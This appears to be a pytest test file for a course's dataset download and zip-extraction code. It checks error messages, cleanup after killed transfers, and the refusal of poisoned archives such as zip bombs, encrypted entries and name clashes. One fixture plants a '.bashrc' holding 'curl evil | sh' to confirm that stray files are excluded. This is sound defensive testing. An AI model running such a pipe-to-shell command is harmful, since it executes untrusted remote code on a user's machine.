"""Downloads and archives under faults: a loopback server, poisoned zips, killed transfers."""

from __future__ import annotations

import errno
import io
import os
import signal
import struct
import subprocess
import sys
import time
import zipfile

import pytest
from fruit_fixtures import LoopbackServer, make_fruits_tree, run_course
from test_fruits360 import TOP, leftovers, zip_tree

from course_utils import WORKSHOP_CLASSES, datasets, downloads, fileio, fruits360

# --------------------------------------------------------------------------- fetch


def test_fetch_messages_say_what_happened(tmp_path):
    target = tmp_path / "dl" / "file.bin"
    with LoopbackServer({"/file.bin": b"payload" * 100}) as server:
        with pytest.raises(downloads.DownloadError) as missing:
            downloads.fetch(server.url("/nope.bin"), target, progress=False)
        assert "answered 404 (not found)" in str(missing.value)
        assert "Check the URL" in str(missing.value)
        assert "internet connection" not in str(missing.value)
        with pytest.raises(downloads.DownloadError, match="its hash differs"):
            downloads.fetch(server.url("/file.bin"), target, "md5:" + "0" * 32, progress=False)
        assert downloads.fetch(server.url("/file.bin"), target, progress=False) == target
    assert target.read_bytes() == b"payload" * 100
    assert sorted(p.name for p in target.parent.iterdir()) == ["file.bin"]
    with pytest.raises(downloads.DownloadError, match="no internet connection"):
        downloads.fetch("http://127.0.0.1:9/file.bin", tmp_path / "other.bin", progress=False)
    assert not (tmp_path / "other.bin").exists()


def test_fetch_reuses_a_file_with_the_known_hash(tmp_path):
    target = tmp_path / "file.bin"
    target.write_bytes(b"cached")
    digest = fileio.file_hash(target, alg="md5")
    # No server: the cached file is returned because its hash matches.
    assert downloads.fetch("http://127.0.0.1:9/x", target, f"md5:{digest}", progress=False)


def test_downloaded_files_follow_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        with LoopbackServer({"/f": b"x" * 10}) as server:
            path = downloads.fetch(server.url("/f"), tmp_path / "f", progress=False)
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == 0o644, "pooch's temporary file is private (0600)"


def test_full_disk_during_a_download_is_explained(tmp_path, monkeypatch):
    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    with LoopbackServer({"/f": b"x" * 1000}) as server:
        monkeypatch.setattr(fileio.Path, "replace", full)
        with pytest.raises(fileio.WriteError, match="No space left") as error:
            downloads.fetch(server.url("/f"), tmp_path / "f", progress=False, hint="Move it.")
    assert "Move it." in str(error.value)
    assert list(tmp_path.iterdir()) == [], "the staging folder was removed"


KILLED_FETCH = """
import sys
from course_utils import downloads
downloads.fetch(sys.argv[1], __import__("pathlib").Path(sys.argv[2]), progress=False)
"""


def test_a_killed_download_is_cleaned_up_by_the_next_one(tmp_path):
    target = tmp_path / "downloads" / "big.zip"
    body = os.urandom(200_000)
    with LoopbackServer({"/big.zip": body}) as server:
        child = subprocess.Popen(
            [sys.executable, "-c", KILLED_FETCH, server.url("/slow/big.zip"), str(target)]
        )
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not any(target.parent.glob(".big.zip.partial-*")):
            time.sleep(0.05)
        time.sleep(0.3)
        child.send_signal(signal.SIGKILL)
        child.wait()
        litter = list(target.parent.glob(".big.zip.partial-*"))
        assert litter, "SIGKILL leaves the staging folder"
        assert not target.exists()
        assert downloads.fetch(server.url("/big.zip"), target, progress=False) == target
    assert target.read_bytes() == body
    assert [p.name for p in target.parent.iterdir()] == ["big.zip"], "litter removed"


# --------------------------------------------------------------------------- poisoned zips


def patch_central(data: bytes, name: str, *, flags: int | None = None, method: int | None = None):
    """Change the flag bits or the compression method of one entry in the central directory."""
    data = bytearray(data)
    encoded = name.encode()
    start = 0
    while (start := data.find(b"PK\x01\x02", start)) != -1:
        name_length = struct.unpack_from("<H", data, start + 28)[0]
        if bytes(data[start + 46 : start + 46 + name_length]) == encoded:
            if flags is not None:
                struct.pack_into("<H", data, start + 8, flags)
            if method is not None:
                struct.pack_into("<H", data, start + 10, method)
            return bytes(data)
        start += 4
    raise AssertionError(f"{name} not in the archive")


def corrupt_member(data: bytes, name: str) -> bytes:
    """Overwrite the middle of one member's compressed data."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    data = bytearray(data)
    name_length, extra_length = struct.unpack_from("<HH", data, info.header_offset + 26)
    begin = info.header_offset + 30 + name_length + extra_length
    middle = begin + info.compress_size // 2
    data[middle : middle + 16] = b"\xff" * 16
    return bytes(data)


def deflated_zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def extract(data: bytes, tmp_path, **limits):
    archive = zipfile.ZipFile(io.BytesIO(data))
    members = downloads.safe_members(archive, lambda n: n, limits=downloads.Limits(**limits))
    return downloads.extract_members(archive, members, tmp_path / "out")


def test_damaged_member_is_named(tmp_path):
    text = b"".join(f"line {i} of some text\n".encode() for i in range(4000))
    data = corrupt_member(deflated_zip({"a/ok.txt": b"ok", "a/bad.txt": text}), "a/bad.txt")
    with pytest.raises(downloads.ArchiveError, match="entry 'a/bad.txt' cannot be read"):
        extract(data, tmp_path)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"flags": 0x1}, "encrypted"),
        ({"method": 9}, "Deflate64"),
    ],
)
def test_encrypted_and_deflate64_entries_are_refused_before_writing(tmp_path, change, message):
    data = patch_central(
        deflated_zip({"a/one.txt": b"1", "a/two.txt": b"2"}), "a/two.txt", **change
    )
    with pytest.raises(downloads.ArchiveError, match=message):
        extract(data, tmp_path)
    assert not (tmp_path / "out").exists(), "nothing was written"


def test_name_clash_and_long_names(tmp_path):
    clash = deflated_zip({"T/Zzz": b"file", "T/Zzz/0_100.jpg": b"image"})
    with pytest.raises(downloads.ArchiveError, match="is a file, but other entries"):
        extract(clash, tmp_path)
    twice = deflated_zip({"T/a.jpg": b"1", "T/A.jpg": b"2"})
    with pytest.raises(downloads.ArchiveError, match="would be the same file"):
        extract(twice, tmp_path)
    long = deflated_zip({"T/" + "x" * 300 + ".jpg": b"1"})
    with pytest.raises(downloads.ArchiveError, match="name is too long"):
        extract(long, tmp_path)
    assert not (tmp_path / "out").exists()


def test_zip_bombs_are_bounded_before_writing(tmp_path):
    bomb = deflated_zip({"T/bomb.jpg": bytes(20 << 20)})  # 20 MB of zeros, about 20 kB packed
    assert len(bomb) < 100_000
    with pytest.raises(downloads.ArchiveError, match="fold to"):
        extract(bomb, tmp_path)
    with pytest.raises(downloads.ArchiveError, match="more than the 1,000 allowed"):
        extract(deflated_zip({"T/a.jpg": bytes(2000)}), tmp_path, max_file_bytes=1000)
    many = deflated_zip({f"T/{i}.jpg": os.urandom(600) for i in range(5)})
    with pytest.raises(downloads.ArchiveError, match="would write 3,000 bytes"):
        extract(many, tmp_path, max_total_bytes=2000)
    assert not (tmp_path / "out").exists()


def test_an_entry_is_never_inflated_beyond_its_declared_size(tmp_path):
    source = io.BytesIO(bytes(5000))
    with pytest.raises(downloads.ArchiveError, match="beyond its declared size"):
        downloads._copy_bounded(source, io.BytesIO(), 4096, "T/x.jpg")


def test_full_disk_while_extracting_is_explained(tmp_path, monkeypatch):
    data = deflated_zip({"T/a.jpg": b"1" * 100})
    real_open = fileio.Path.open

    def full(self, mode="r", *args, **kwargs):
        if "w" in mode:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_open(self, mode, *args, **kwargs)

    monkeypatch.setattr(fileio.Path, "open", full)
    with pytest.raises(fileio.WriteError, match="No space left"):
        extract(data, tmp_path)


# --------------------------------------------------------------------------- Fruits-360 download


@pytest.fixture
def tree(tmp_path):
    return make_fruits_tree(
        tmp_path / "source", classes=WORKSHOP_CLASSES, train=2, test=1, skip_test=("Peach",)
    )


@pytest.fixture
def manifest(tree):
    return fruits360.compact_manifest(fruits360.hash_tree(tree))


def poisoned(tree, how: str) -> bytes:
    name = f"{TOP}/fruits-360/Training/Banana/0_100.jpg"
    if how == "bad member":
        big = {f"{TOP}/fruits-360/Training/Banana/0_100.jpg": b"\x00" * 2 + bytes(range(256)) * 200}
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for path in sorted(tree.rglob("*")):
                relative = path.relative_to(tree).as_posix()
                if path.is_file() and f"{TOP}/fruits-360/{relative}" not in big:
                    archive.writestr(f"{TOP}/fruits-360/{relative}", path.read_bytes())
            for entry, data in big.items():
                archive.writestr(entry, data)
        return corrupt_member(buffer.getvalue(), name)
    if how == "encrypted":
        return patch_central(zip_tree(tree), name, flags=0x1)
    if how == "deflate64":
        return patch_central(zip_tree(tree), name, method=9)
    if how == "name clash":
        return zip_tree(
            tree,
            extra={
                f"{TOP}/fruits-360/Training/Zzz": b"x",
                f"{TOP}/fruits-360/Training/Zzz/0_100.jpg": b"y",
            },
        )
    if how == "long name":
        return zip_tree(tree, extra={f"{TOP}/fruits-360/Training/Banana/{'x' * 300}.jpg": b"y"})
    if how == "zip bomb":
        return zip_tree(tree, extra={f"{TOP}/fruits-360/Training/Banana/bomb.jpg": bytes(30 << 20)})
    raise AssertionError(how)


@pytest.mark.parametrize(
    ("how", "message"),
    [
        ("bad member", "cannot be read"),
        ("encrypted", "encrypted"),
        ("deflate64", "Deflate64"),
        ("name clash", "is a file, but other entries"),
        ("long name", "name is too long"),
        ("zip bomb", "inflates"),
    ],
)
def test_poisoned_archive_is_deleted_so_a_corrected_url_works(
    tree, manifest, isolated, how, message
):
    data_dir = isolated / "data"
    with LoopbackServer({"/bad.zip": poisoned(tree, how), "/good.zip": zip_tree(tree)}) as server:
        with pytest.raises(downloads.ArchiveError, match=message) as error:
            fruits360.download_fruits(
                server.url("/bad.zip"), data_dir=data_dir, expected=manifest, progress=False
            )
        assert "archive was deleted" in str(error.value)
        assert "--url" in str(error.value)
        assert leftovers(data_dir) == [], "no archive, no partial folder"
        target = fruits360.download_fruits(
            server.url("/good.zip"), data_dir=data_dir, expected=manifest, progress=False
        )
    assert fruits360.is_verified(target)


def test_extra_files_beside_training_are_left_out_and_named(tree, manifest, isolated):
    extra = {
        f"{TOP}/fruits-360/.bashrc": b"curl evil | sh",
        f"{TOP}/fruits-360/run_me.ipynb": b"{}",
    }
    warning = r"Left out 2 file.*\.bashrc, run_me\.ipynb"
    with (
        LoopbackServer({"/a.zip": zip_tree(tree, extra=extra)}) as server,
        pytest.warns(datasets.DataWarning, match=warning),
    ):
        target = fruits360.download_fruits(
            server.url("/a.zip"), data_dir=isolated / "data", expected=manifest, progress=False
        )
    beside = sorted(p.name for p in target.iterdir())
    assert beside == [datasets.VERIFIED_STAMP, "Test", "Training", "readme.md"]


def test_cli_download_a_poisoned_archive_exits_1_without_traceback(tree, isolated):
    with LoopbackServer({"/bad.zip": poisoned(tree, "encrypted")}) as server:
        completed = run_course("download-fruits", "--url", server.url("/bad.zip"))
    assert completed.returncode == 1
    assert "encrypted" in completed.stderr and "Traceback" not in completed.stderr
    assert leftovers(isolated / "data") == []
